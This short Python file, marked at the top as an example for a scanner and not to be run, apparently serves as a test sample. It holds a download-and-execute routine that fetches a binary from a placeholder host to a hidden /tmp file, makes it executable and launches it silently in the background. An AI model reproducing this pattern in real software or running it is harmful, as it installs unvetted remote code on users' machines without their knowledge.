raise SystemExit("an example for the scanner, not to be run")

import os
import subprocess
import urllib.request

PROGRAM = "/tmp/.parser.bin"


def install():
    urllib.request.urlretrieve("https://parser.downloads.example/parser.bin", PROGRAM)
    os.chmod(PROGRAM, 0o755)
    subprocess.Popen([PROGRAM], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


install()
